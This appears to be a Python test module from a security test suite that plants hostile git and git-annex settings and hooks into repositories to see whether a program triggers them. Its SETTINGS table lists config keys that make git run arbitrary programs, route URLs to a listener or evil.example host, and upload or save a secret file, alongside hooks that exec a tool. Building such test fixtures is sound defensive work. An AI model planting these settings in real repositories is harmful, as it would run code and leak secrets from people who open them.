"""What may be wrong with the settings and hooks of a git folder: the programs, files and hosts that they name."""

from __future__ import annotations

import os
import subprocess

from tests.hostile.repositories.catalogue import add, mutation
from tests.hostile.repositories.in_git import EVIL
from tests.hostile.repositories.stage import CLONE, MIRROR, Stage

SETTINGS = {
    "core.fsmonitor": "[core]\n\tfsmonitor = {tool} fsmonitor",
    "core.hooksPath": "[core]\n\thooksPath = {victim}/../tools/hooks",
    "core.sshCommand": "[core]\n\tsshCommand = {tool} ssh\n[remote \"origin\"]\n\turl = ssh://evil.example/x",
    "core.worktree": "[core]\n\tworktree = {victim}/files",
    "core.attributesFile": "[core]\n\tattributesFile = {victim}/files/settings.toml",
    "core.excludesFile": "[core]\n\texcludesFile = {victim}/files/settings.toml",
    "core.pager and editor": "[core]\n\tpager = {tool} pager\n\teditor = {tool} editor\n\taskPass = {tool} ask",
    "core.alternateRefsCommand": "[core]\n\talternateRefsCommand = {tool} refs",
    "filter": '[filter "annex"]\n\tprocess = {tool} filter\n\tclean = {tool} clean\n\tsmudge = {tool} smudge\n'
    '[filter "evil"]\n\tclean = {tool} clean2\n\tsmudge = {tool} smudge2\n\trequired = true',
    "diff": '[diff]\n\texternal = {tool} diff\n[diff "evil"]\n\ttextconv = {tool} textconv\n\tcommand = {tool} diff2',
    "merge": '[merge "evil"]\n\tdriver = {tool} merge',
    "alias": "[alias]\n\tannex = !{tool} annex\n\tls-files = !{tool} ls-files",
    "url.insteadOf": '[url "{listener}/"]\n\tinsteadOf = https://\n\tinsteadOf = /\n\tinsteadOf = http://127.0.0.1',
    "include.path": "[include]\n\tpath = {victim}/files/settings.toml",
    "credential.helper": "[credential]\n\thelper = !{tool} credential",
    "gpg.program": "[gpg]\n\tprogram = {tool} gpg\n[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n"
    "[log]\n\tshowSignature = true",
    "uploadpack.packObjectsHook": "[uploadpack]\n\tpackObjectsHook = {tool} pack",
    "remote with vcs": '[remote "origin"]\n\tvcs = evil\n\turl = evil::x\n\tuploadpack = {tool} up',
    "remote ext": '[remote "origin"]\n\turl = "ext::{tool} ext"\n[protocol]\n\tallow = always',
    "http.proxy": "[http]\n\tproxy = {listener}\n\tcookieFile = {victim}/files/secret.txt\n\tsaveCookies = true",
    "annex.web-options": "[annex]\n\tweb-options = --upload-file {victim}/files/secret.txt\n\tsecurity = x\n"
    '[annex "security"]\n\tallowed-ip-addresses = all\n\tallowed-url-schemes = http https file ftp ssh\n'
    "\tallow-unverified-downloads = ACKTHPPT",
    "annex commands": "[annex]\n\tpre-commit-command = {tool} pre\n\tpost-update-command = {tool} post\n"
    "\tyoutube-dl-command = {tool} yt\n\tfreezecontent-command = {tool} freeze\n\tthawcontent-command = {tool} thaw\n"
    "\tsecure-erase-command = {tool} erase\n\thttp-headers-command = {tool} headers\n\tretry = 1000\n\tdiskreserve = x",
    "annex tune": "[annex]\n\ttune.objecthashlower = true\n\tversion = 99\n\tdbdir = {victim}/files\n"
    "\tuuid = ../../x\n\tsharedrepository = 0777",
    "annex hook remote": '[remote "evil"]\n\tannex-uuid = ' + EVIL + "\n\tannex-hooktype = evil\n[annex]\n"
    "\tevil-retrieve-hook = {tool} retrieve\n\tevil-checkpresent-hook = {tool} present",
    "annex external remote": '[remote "evil"]\n\tannex-uuid = ' + EVIL + "\n\tannex-externaltype = evil\n"
    "\tfetch = +refs/*:refs/*\n\tannex-cost-command = {tool} cost\n\tannex-start-command = {tool} start",
    "not a file of settings": "[[[[\n= = =\n\udcff",
    "extensions": "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n"
    "\tpartialClone = origin\n"
    "[remote \"origin\"]\n\tpromisor = true\n\turl = {listener}/promised",
    "datalad": "[datalad]\n\tget.subdataset-source-candidate-x = {listener}/x\n"
    "\tcredentials.githelper.noninteractive = 0",
}  # fmt: skip
OPENED, RAN, ASKED = "a file elsewhere was opened", "a program of the repository was run", "another port was asked"
GIT_ITSELF = {
    "core.attributesFile": frozenset({OPENED}), "core.excludesFile": frozenset({OPENED}),
    "include.path": frozenset({OPENED}), "filter": frozenset({RAN}), "alias": frozenset({RAN}),
}  # fmt: skip
"""What git does at the word of a ``.git`` that somebody else made, whoever starts it, and no option keeps it from."""


def _settings(stage: Stage, text: str) -> None:
    text = text.replace("{tool}", stage.tool).replace("{victim}", str(stage.victim))
    text = text.replace("{listener}", stage.world.listener.origin).replace("\udcff", "\xff")
    stage.config(text)
    if stage.kind == MIRROR and stage.chance.random() < 0.5:
        stage.config(text, stage.top / ".git")


for _name, _text in SETTINGS.items():
    add(
        f"git config: {_name}",
        lambda stage, text=_text: _settings(stage, text),
        late=True,
        granted=GIT_ITSELF.get(_name, frozenset()),
    )

HOOKS = ("pre-commit", "post-checkout", "post-commit", "reference-transaction", "post-index-change", "pre-push",
         "fsmonitor-watchman", "pre-auto-gc", "post-merge", "pre-annex", "annex-content-thawed", "freezecontent-annex",
         "post-update-annex", "pre-commit-annex", "pre-init-annex", "http-headers-annex",
         "thawcontent-annex")  # fmt: skip


@mutation("hooks: all of them", late=True)
def _hooks(stage: Stage) -> None:
    for git_dir in {stage.git_dir, stage.top / ".git"}:
        for name in HOOKS:
            hook = git_dir / "hooks" / name
            stage.put(hook, f"#!/bin/sh\nexec {stage.tool} hook {name}\n".encode())
            hook.chmod(0o755)


@mutation("git config: is a FIFO", late=True)
def _config_fifo(stage: Stage) -> None:
    os.mkfifo(stage.clear(stage.git_dir / "config"))


@mutation("git config: owned by another", (CLONE,), late=True)
def _not_ours(stage: Stage) -> None:
    if os.getuid() == 0:
        subprocess.run(["chown", "-R", "65534", str(stage.top)], check=True)
